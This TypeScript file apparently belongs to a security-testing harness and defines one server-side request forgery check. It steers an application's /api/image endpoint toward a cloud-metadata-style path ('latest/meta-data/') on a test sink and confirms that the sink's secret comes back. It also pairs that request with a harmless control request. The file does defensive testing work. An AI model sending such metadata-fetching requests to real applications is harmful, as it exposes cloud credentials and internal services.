import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** Has the application fetch a service that listens inside only. */
export const ssrfImageLoopback: Attack = defineAttack({
  id: 'ssrf-image-loopback',
  class: 'ssrf',
  title: 'Has the application fetch a service that listens inside only',
  cwe: 918,
  capec: 664,
  technique: 'T1552.005',
  preconditions: [],

  steps: ({ visitor, sink }) => visitor.get(`/api/image${query({ url: sink.url('latest/meta-data/') })}`),
  oracle: (answer, { sink }) => sink.hits().length > 0 && answer.text.includes(sink.secret),
  twin: ({ visitor }) =>
    visitor.get(`/api/image${query({ url: 'https://pictures.supplier.invalid/tents/ridgeline.jpg' })}`),
  // The supplier does not exist; what counts is that the application may try.
  twinServed: (answer) => answer.status === 502 && answer.text.includes('could not fetch'),
})
